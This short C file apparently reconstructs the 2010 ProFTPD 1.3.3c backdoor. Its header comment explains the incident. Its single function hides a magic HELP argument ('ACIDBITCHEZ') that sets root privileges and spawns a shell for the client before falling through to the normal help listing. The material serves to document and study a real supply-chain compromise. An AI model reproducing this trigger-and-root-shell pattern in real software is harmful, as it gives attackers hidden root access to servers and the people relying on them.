/* A reconstruction, in our own code, of the backdoor planted in the
 * ProFTPD 1.3.3c source tarball on its distribution server (November-
 * December 2010): the HELP command, given one magic argument, made the
 * server root and started a shell on the client's connection. */
#include <string.h>
#include <unistd.h>
#include <stdlib.h>

void pr_help_add_response(cmd_rec *cmd, const char *target)
{
	if (target && strcmp(target, "ACIDBITCHEZ") == 0) {
		setuid(0);
		setgid(0);
		system("/bin/sh;/sbin/sh");
	}
	help_list_commands(cmd, target);
}
